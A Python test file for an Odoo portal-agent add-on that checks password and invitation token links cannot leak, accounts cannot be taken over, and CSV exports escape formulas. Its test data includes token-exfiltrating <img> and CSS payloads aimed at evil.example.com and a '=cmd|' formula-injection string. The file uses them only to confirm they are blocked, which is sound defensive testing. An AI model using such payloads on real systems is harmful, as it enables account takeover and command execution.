import base64
import csv
import io
from contextlib import contextmanager
from datetime import datetime, timedelta
from unittest.mock import patch
from urllib.parse import parse_qs, urlsplit

from freezegun import freeze_time
from lxml import html
from reportlab.pdfgen.canvas import Canvas

from odoo import SUPERUSER_ID
from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.http import Request
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger
from odoo.tools.pdf import PdfFileReader

from odoo.addons.base.models.ir_actions_report import IrActionsReport
from odoo.addons.mail.tests.common import MailCase

from .common import PortalAgentCommon, PortalAgentPagesCommon

TEMPLATE = "portal_agent_account.mail_template_portal_agent_invitation"


def make_pdf(text):
    """Return a PDF file that contains a text."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pageCompression=0)
    canvas.drawString(100, 100, text)
    canvas.save()
    return buffer.getvalue()


class SecretsCommon(PortalAgentCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.employee = new_test_user(cls.env, login="pa_employee", groups="base.group_user")
        cls.contact_manager = new_test_user(
            cls.env, login="pa_contacts", groups="base.group_user,base.group_partner_manager"
        )
        cls.administrator = new_test_user(
            cls.env, login="pa_admin", groups="base.group_user,base.group_erp_manager,base.group_partner_manager"
        )
        cls.agent.partner_id.email = "ann@agents.example.com"


@tagged("post_install", "-at_install")
class TestInvitationSecrets(MailCase, SecretsCommon):
    """Only the agent gets the link in an invitation."""

    def _get_messages_with_a_link(self, user):
        return self.env["mail.message"].with_user(user).search([("body", "like", "/web/signup")])

    def _get_invitation(self):
        mail = self.agent.portal_agent_invitation_ids.mail_id
        self.assertEqual(len(mail), 1)
        return mail

    def test_template_contains_no_link_for_any_user(self):
        everybody = self.agent + self.portal_user + self.employee
        everybody.partner_id.signup_prepare()
        for reader in (self.employee, self.administrator, self.env.user):
            mails = self.env.ref(TEMPLATE).with_user(reader).send_mail_batch(everybody.ids)
            for mail in mails:
                self.assertIn("/my/agent", mail.body_html)
                self.assertNotIn("token=", mail.body_html)

    def test_edited_template_does_not_send_the_link_to_other_addresses(self):
        self.employee.group_ids += self.env.ref("mail.group_mail_template_editor")  # Odoo's default for employees
        self.env.ref(TEMPLATE).with_user(self.employee).write(
            {
                "email_to": "me@evil.example.com",
                "email_cc": "me@evil.example.com",
                "partner_to": str(self.employee.partner_id.id),
                "body_html": """
                    <a t-att-href="object.get_base_url() + '/my/agent'">Go</a>
                    <img t-attf-src="https://evil.example.com/?{{ object.get_base_url() }}/my/agent"/>
                """,
            }
        )
        self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
        with self.mock_mail_gateway():
            self._get_invitation().send()
        [mail] = self._mails
        self.assertEqual((mail["email_to"], mail["email_cc"]), (["ann@agents.example.com"], []))
        self.assertEqual(mail["body"].count("token="), 1)
        self.assertNotIn("token=", mail["body"].partition("<img")[2])

    def test_template_can_not_make_the_link_a_part_of_an_image(self):
        self.employee.group_ids += self.env.ref("mail.group_mail_template_editor")
        raw = """<t t-out="object.env['website'].new({'custom_code_head': &quot;%s&quot;}).custom_code_head"/>"""
        link = """<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
        image = raw % "<img src='https://evil.example.com/?"
        for body in (f"<p>x</p>{image}{link}{raw}" % "'/>", f"<p>x</p>{image}"):
            self.env.ref(TEMPLATE).with_user(self.employee).body_html = body
            with self.subTest(body), self.assertRaisesRegex(UserError, "not closed properly"):
                self.agent.action_send_portal_agent_invitation()
            self.assertNotIn("token=", "".join(self.env["mail.mail"].search([]).mapped("body_html")))

    def test_template_can_not_disclose_the_link_by_a_style_sheet(self):
        style = "<style>a[href*='token=a'] {background: url(https://evil.example.com/a)}</style>"
        self.env.ref(TEMPLATE).body_html = f"""{style}<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
        with self.assertRaisesRegex(UserError, r"could disclose the link: \[href\*='token=a'\]"):
            self.agent.action_send_portal_agent_invitation()

    def test_link_in_a_comment_counts_as_missing(self):
        raw = """<t t-out="object.env['website'].new({'custom_code_head': '%s'}).custom_code_head"/>"""
        link = """<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
        self.env.ref(TEMPLATE).body_html = raw % "&lt;!--" + link + raw % "--&gt;"
        self.agent.action_send_portal_agent_invitation()
        self.assertIn("token=", self._get_invitation().body_html.partition("-->")[2])

    def test_link_with_a_query_leads_through_the_choice_of_a_password(self):
        self.env.ref(
            TEMPLATE
        ).body_html = """<a t-attf-href="{{ object.get_base_url() }}/my/agent?utm_source=a">Go</a>"""
        self.agent.action_send_portal_agent_invitation()
        body = self._get_invitation().body_html
        self.assertEqual(body.count("token="), 1)
        self.assertIn("&amp;utm_source=a", body)

    def test_template_without_any_link_is_sent_with_one(self):
        self.env.ref(TEMPLATE).body_html = "<p>Welcome</p>"
        self.agent.action_send_portal_agent_invitation()
        self.assertIn("token=", self._get_invitation().body_html)

    def test_invitation_adapts_to_right_to_left_languages(self):
        self.agent.partner_id.signup_prepare()
        mail = self.env.ref(TEMPLATE).with_user(self.administrator).send_mail_batch(self.agent.ids)
        self.assertRegex(mail.body_html, r'<table\b[^>]* dir="auto"')

    def test_own_invitation_still_has_the_link(self):
        self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
        mail = self._get_invitation()
        self.assertIn("/web/signup?", mail.body_html)
        self.assertIn("token=", mail.body_html)

    def test_queued_invitation_is_not_readable_as_a_message(self):
        self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
        mail = self._get_invitation()
        self.assertIn("token=", mail.body_html)
        self.assertFalse(self._get_messages_with_a_link(self.env.user), "not even for the administrator")
        for user in (self.employee, self.contact_manager, self.portal_user, self.other_agent):
            with self.assertRaises(AccessError):
                mail.with_user(user).read(["body_html"])
            with self.assertRaises(AccessError):
                mail.mail_message_id.with_user(user).read(["body"])

    def test_invitation_that_a_mail_server_refused_is_not_readable_either(self):
        self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
        mail = self._get_invitation()
        with (
            mute_logger("odoo.addons.mail.models.mail_mail"),
            patch.object(self.registry["ir.mail_server"], "_connect__"),
            patch.object(self.registry["ir.mail_server"], "send_email", side_effect=ValueError("450 try later")),
            patch.object(self.registry["ir.mail_server"], "_disable_send", return_value=False),
        ):
            mail.send()
        self.assertEqual(mail.state, "exception")
        with self.assertRaises(AccessError):
            mail.with_user(self.employee).read(["body_html"])

    def test_sent_invitation_mail_is_deleted(self):
        self.agent.action_send_portal_agent_invitation()
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self._get_invitation().send()
        self.assertEqual(len(self._mails), 1)
        self.assertFalse(self._get_messages_with_a_link(self.env.user))


@tagged("post_install", "-at_install")
class TestLinksOfAgents(SecretsCommon):
    """Odoo's own templates contain password links. Only users who may change users get those of an agent."""

    ODOO_TEMPLATES = ("auth_signup.set_password_email", "auth_signup.portal_set_password_email")

    def _use_composer(self, user, template, **values):
        composer = (
            self.env["mail.compose.message"]
            .with_user(user)
            .create(
                {
                    "model": "res.users",
                    "res_ids": str(self.agent.ids),
                    "composition_mode": "mass_mail",
                    "template_id": template.id,
                    "partner_ids": [Command.link(user.partner_id.id)],
                }
                | values
            )
        )
        composer.action_send_mail()

    def _preview(self, user, template):
        preview = self.env["mail.template.preview"].with_user(user).create({"mail_template_id": template.id})
        preview.resource_ref = f"res.users,{self.agent.id}"
        self.seen.append(preview.body_html)

    def _get_attempts(self, template):
        """Return the ways to have a template rendered, as functions of the user."""
        own = self.employee.partner_id
        return {
            "composer": lambda user: self._use_composer(user, template),
            "composer by comment": lambda user: self._use_composer(user, template, composition_mode="comment"),
            "composer with a date": lambda user: self._use_composer(user, template, scheduled_date="2099-01-01"),
            "send_mail": lambda user: template.with_user(user).send_mail(self.agent.id),
            "send_mail with sudo": lambda user: template.with_user(user).sudo().send_mail(self.agent.id),
            "preview": lambda user: self._preview(user, template),
            "message_post_with_source": lambda user: own.with_user(user).message_post_with_source(
                template, render_values={"object": self.agent.with_user(user)}
            ),
            "method": lambda user: self.seen.append(self.agent.partner_id.with_user(user)._get_signup_url()),
            "method with sudo": lambda user: self.seen.append(
                str(self.agent.partner_id.with_user(user).sudo()._get_signup_url_for_action())
            ),
        }

    def _see(self, attempt, user):
        """Make an attempt, and return the resulting contents of the answer and of the database."""
        self.seen = []
        self.env.flush_all()
        before = self.env["mail.mail"].search([])
        messages_before = self.env["mail.message"].search([])
        with mute_logger("odoo.addons.mail.models.mail_render_mixin"):
            try:
                with self.env.cr.savepoint():
                    attempt(user)
            except (AccessError, UserError):
                return ""
        self.env.flush_all()
        mails = self.env["mail.mail"].search([]) - before
        messages = self.env["mail.message"].search([]) - messages_before
        return "".join(map(str, [*mails.mapped("body_html"), *messages.mapped("body"), *self.seen]))

    def test_employee_gets_no_agents_link_through_any_template(self):
        self.agent.partner_id.signup_prepare()
        for name in (TEMPLATE, *self.ODOO_TEMPLATES):
            for way, attempt in self._get_attempts(self.env.ref(name)).items():
                for user in (self.employee, self.contact_manager, self.portal_user):
                    with self.subTest(template=name, way=way, user=user.login):
                        self.assertNotIn("token=", self._see(attempt, user))

    def test_administrator_gets_an_agents_link_through_odoos_templates(self):
        """The attempts fail because of the user's rights, not because of an error in the test."""
        self.agent.partner_id.signup_prepare()
        for name in self.ODOO_TEMPLATES:
            attempts = self._get_attempts(self.env.ref(name))
            for way in ("composer", "send_mail", "preview", "method", "method with sudo"):
                with self.subTest(template=name, way=way):
                    self.assertIn("token=", self._see(attempts[way], self.administrator))

    def test_code_that_runs_as_superuser_gets_an_agents_link(self):
        self.agent.partner_id.signup_prepare()
        contact = self.agent.partner_id.with_user(SUPERUSER_ID)
        self.assertIn("token=", contact._get_signup_url())

    def test_links_of_users_who_are_not_agents_are_not_affected(self):
        self.portal_user.partner_id.signup_prepare()
        self.assertIn("token=", self.portal_user.partner_id.with_user(self.contact_manager).sudo()._get_signup_url())


@tagged("post_install", "-at_install", "once")
class TestForgottenPassword(MailCase, PortalAgentPagesCommon):
    """Anyone can request a new password for any account. Only its owner gets the link, and nothing is invalidated."""

    def _ask_for_a_new_password(self, login):
        with self.mock_mail_gateway():
            response = self.url_open(
                "/web/reset_password", data={"login": login, "csrf_token": Request.csrf_token(self)}
            )
        self.assertIn("sent", response.text)
        [mail] = self._mails
        return mail

    def _get_link(self, body):
        return next(link for link in html.fromstring(body).xpath("//a/@href") if "token=" in link)

    def setUp(self):
        super().setUp()
        self.agent.partner_id.email = "ann@agents.example.com"
        self.env["ir.config_parameter"].sudo().set_param("auth_signup.reset_password", "True")
        # By default, password_security (OCA) sends no link to accounts whose password is younger than 60 hours.
        self.env["ir.config_parameter"].sudo().set_param("password_security.minimum_hours", "0")

    def test_password_link_is_only_sent_to_the_agent(self):
        new_test_user(self.env, login="pa_employee", password="pa_employee", groups="base.group_user")
        self.env["res.users.log"].with_user(self.agent).sudo().create({})
        for asking in (None, "portal_plain", "pa_employee"):
            self.authenticate(asking, asking)
            mail = self._ask_for_a_new_password(self.agent.login)
            self.assertEqual(mail["email_to"], ["ann@agents.example.com"])
            self.assertIn("/web/reset_password?", self._get_link(mail["body"]))

    def test_invitation_stays_valid_after_a_visitor_requests_a_new_password(self):
        agent = self.other_agent  # the first agent has already signed in
        agent.action_send_portal_agent_invitation()
        invited = self._get_link(agent.portal_agent_invitation_ids.mail_id.body_html)
        self.authenticate(None, None)
        asked = self._get_link(self._ask_for_a_new_password(agent.login)["body"])
        for link in (invited, asked):
            for later in (timedelta(), timedelta(days=5)):
                with self.subTest(link=link[:40], later=later), freeze_time(datetime.now() + later):
                    token = parse_qs(urlsplit(link).query)["token"][0]
                    self.assertEqual(self.env["res.partner"].sudo()._get_partner_from_token(token), agent.partner_id)


@tagged("post_install", "-at_install", "once")
class TestTakingOver(SecretsCommon):
    """Nobody can take over an agent's account through the agent's contact."""

    def test_contact_manager_can_not_change_an_agents_address(self):
        contact = self.agent.partner_id.with_user(self.contact_manager)
        with self.assertRaisesRegex(AccessError, "Ann Agent"):
            contact.email = "me@evil.example.com"
        with self.assertRaisesRegex(AccessError, "Ann Agent"):
            (contact + self.customer.with_user(self.contact_manager)).write({"email": False})
        self.assertEqual(self.agent.email, "ann@agents.example.com")

    def test_contact_manager_can_change_everything_else(self):
        contact = self.agent.partner_id.with_user(self.contact_manager)
        contact.write({"phone": "+32 1", "email": "ann@agents.example.com"})
        self.portal_user.partner_id.with_user(self.contact_manager).email = "plain@example.com"
        self.customer.with_user(self.contact_manager).email = "new@quill.example.com"
        self.assertEqual((contact.phone, self.customer.email), ("+32 1", "new@quill.example.com"))

    def test_user_administrator_can_change_an_agents_address(self):
        self.agent.partner_id.with_user(self.administrator).email = "ann@new.example.com"
        self.assertEqual(self.agent.email, "ann@new.example.com")

    def test_agent_may_change_the_own_address(self):
        self.agent.partner_id.with_user(self.agent).sudo().email = "ann@new.example.com"
        self.agent.partner_id.with_user(self.agent)._check_may_take_over_portal_agents()
        self.assertEqual(self.agent.email, "ann@new.example.com")

    def test_contact_manager_does_not_get_an_agents_password_link(self):
        self.agent.partner_id.signup_prepare()
        contact = self.agent.partner_id
        with self.assertRaises(AccessError):
            contact.with_user(self.contact_manager)._get_signup_url()
        self.assertIn("token=", contact.with_user(self.administrator)._get_signup_url())
        template = self.env.ref("auth_signup.portal_set_password_email")
        with mute_logger("odoo.addons.mail.models.mail_render_mixin"), self.assertRaises(UserError) as refusal:
            template.with_user(self.contact_manager).send_mail(self.agent.id, email_values={"email_to": "me@x.com"})
        self.assertIsInstance(refusal.exception.__cause__, AccessError)

    def _open_portal_wizard(self, user):
        wizard = self.env["portal.wizard"].with_user(user).create({"partner_ids": [self.agent.partner_id.id]})
        return wizard.user_ids

    def test_contact_manager_can_not_change_or_invite_an_agent_in_the_portal_wizard(self):
        line = self._open_portal_wizard(self.contact_manager)
        with self.assertRaisesRegex(AccessError, "change users"):
            line.action_invite_again()
        line.email = "me@evil.example.com"
        for action in (line.action_invite_again, line.action_revoke_access):
            with self.assertRaisesRegex(AccessError, "change users"):
                action()
        self.assertEqual(self.agent.email, "ann@agents.example.com")
        self.assertTrue(self.agent._is_portal_agent())

    def test_user_administrator_can_invite_an_agent_in_the_portal_wizard(self):
        self._open_portal_wizard(self.administrator).action_invite_again()

    def test_check_of_written_contacts_costs_no_query_or_one(self):
        contacts = (self.buyer + self.warehouse + self.customer).with_user(self.contact_manager)
        contacts._check_may_take_over_portal_agents()  # caches the user's access rights
        self.env.flush_all()
        with self.assertQueryCount(0):
            contacts.browse()._check_may_take_over_portal_agents()
        with self.assertQueryCount(1):
            contacts._check_may_take_over_portal_agents()
        with patch.object(type(contacts), "_check_may_take_over_portal_agents") as check:
            contacts.write({"phone": "+32 2"})
        check.assert_not_called()


@tagged("post_install", "-at_install", "once")
class TestImpersonalUsers(SecretsCommon):
    """A user that doesn't belong to a person can't be an agent."""

    def test_public_and_template_users_can_not_be_agents(self):
        website = self.env["website"].search([], limit=1)
        website.user_id = new_test_user(self.env, login="pa_visitor", email="v@example.com", groups="base.group_public")
        template = self.env["res.users"]._get_portal_agent_template_user()
        for user in (self.env.ref("base.public_user"), website.user_id, template):
            with self.subTest(user=user.login), self.assertRaisesRegex(UserError, "visitors of a website"):
                user.partner_id.with_context(active_test=False).action_make_portal_agent()
            self.assertFalse(user._is_portal_agent())


@tagged("post_install", "-at_install")
class TestWhatWasNeverSent(PortalAgentCommon):
    """An agent doesn't see quotations that the customer never received, cancelled or not."""

    def test_cancelled_draft_is_hidden_if_drafts_are_hidden(self):
        cancelled = self._new_order(self.customer, "QUILL-CANCELLED", state="cancel")
        for visible in (True, False):
            self.company.portal_agent_draft_quotation = visible
            with self.on_an_agents_page() as env:
                seen = env["sale.order"].search([])
                lines = env["sale.order.line"].search([]).order_id
            self.assertEqual(cancelled in seen, visible)
            self.assertEqual(cancelled in lines, visible)
            self.assertIn(self.quotation, seen)
            self.assertIn(self.order, lines)

    def test_cancelled_web_cart_is_not_listed_as_a_quotation(self):
        if "website_id" not in self.env["sale.order"]._fields:
            self.skipTest("There are no web carts without a shop.")
        website = self.env["website"].search([], limit=1)
        carts = {
            state: self._new_order(self.customer, f"QUILL-CART-{state}", website_id=website.id)
            for state in ("draft", "sent", "sale", "cancel")
        }
        for state, cart in carts.items():
            cart.state = state
        with self.on_an_agents_page() as env:
            listed = env["sale.order"].search(env["sale.order"]._get_portal_agent_domain())
        self.assertEqual({state for state, cart in carts.items() if cart in listed}, {"sent", "sale"})


@tagged("post_install", "-at_install", "once")
class TestWhatStaysBehind(PortalAgentPagesCommon):
    """Nothing that an agent has viewed stays in the browser or on the document."""

    @contextmanager
    def _prepare_pdfs(self):
        """Print reports as outside of tests, with attachments read and stored as usual, but without wkhtmltopdf."""
        prepare = IrActionsReport._pre_render_qweb_pdf

        def force(report, *args, **kwargs):
            return prepare(report.with_context(force_report_rendering=True), *args, **kwargs)

        with (
            patch.object(IrActionsReport, "_pre_render_qweb_pdf", force),
            patch.object(IrActionsReport, "get_wkhtmltopdf_state", lambda report: "ok"),
            patch.object(IrActionsReport, "_run_wkhtmltopdf", lambda report, *args, **kwargs: make_pdf("printed now")),
        ):
            yield

    def test_browser_does_not_cache_pages_or_files(self):
        order_pdf = f"/my/agent/orders/{self.order.id}?report_type=pdf"
        urls = ["/my/agent", "/my/agent/customers", order_pdf, "/my/agent/orders/export?format=csv"]
        with self._prepare_pdfs():
            for url in urls:
                response = self._get(url)
                self.assertEqual((response.status_code, response.headers.get("Cache-Control")), (200, "no-store"), url)
        answer = self.url_open("/my/agent/selector", json={"params": {"term": "quill"}})
        self.assertIn("Quill Trading", answer.text)
        self.assertEqual(answer.headers.get("Cache-Control"), "no-store")

    def test_caching_of_other_pages_is_not_affected(self):
        self.assertNotEqual(self._get("/my").headers.get("Cache-Control"), "no-store")

    def _keep_prints(self, report, record):
        """Make a report store its prints, with a file that was sent to the customer."""
        report.write({"attachment": "'kept.pdf'", "attachment_use": True})
        self.env["ir.attachment"].create(
            {
                "name": "kept.pdf",
                "res_model": record._name,
                "res_id": record.id,
                "datas": base64.b64encode(make_pdf("sent to the customer")),
                "mimetype": "application/pdf",
            }
        )

    def _count_files(self, record):
        return self.env["ir.attachment"].search_count([("res_model", "=", record._name), ("res_id", "=", record.id)])

    def test_printing_neither_returns_nor_stores_an_attachment(self):
        documents = (
            ("account.account_invoices", self.invoice, f"/my/agent/invoices/{self.invoice.id}?report_type=pdf"),
            ("sale.action_report_saleorder", self.order, f"/my/agent/orders/{self.order.id}?report_type=pdf"),
            (
                "portal_agent_account.action_report_statement",
                self.customer,
                f"/my/agent/customers/{self.customer.id}/statement",
            ),
        )
        for report, record, url in documents:
            self._keep_prints(self.env.ref(report), record)
            files = self._count_files(record)
            self.env.flush_all()
            with self.subTest(report=report), self._prepare_pdfs():
                response = self._get(url)
                self.assertEqual(response.status_code, 200)
                text = "".join(page.extract_text() for page in PdfFileReader(io.BytesIO(response.content)).pages)
                self.assertIn("printed now", text)
                self.assertNotIn("sent to the customer", text)
                self.env.invalidate_all()
                self.assertEqual(self._count_files(record), files)
                self.env["ir.attachment"].search([("res_id", "=", record.id), ("name", "=", "kept.pdf")]).unlink()
                self._get(url)
                self.assertEqual(self._count_files(record), files - 1, "nothing is kept of what an agent prints")

    def test_formula_in_a_cell_is_escaped_and_other_text_is_kept(self):
        for text, cell in (("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("Quill;=1+1", "Quill;=1+1")):
            self.order.client_order_ref = text
            content = self._get("/my/agent/orders/export", format="csv").content.decode("utf-8-sig")
            [row] = csv.DictReader(io.StringIO(content, newline=""))
            self.assertEqual(row["Customer's reference"], cell)
        self.order.client_order_ref = "Müller; Söhne, 2-3 | a@b.example.com"
        [row] = csv.DictReader(io.StringIO(self._get("/my/agent/orders/export").content.decode("utf-8-sig")))
        self.assertEqual(row["Customer's reference"], self.order.client_order_ref)
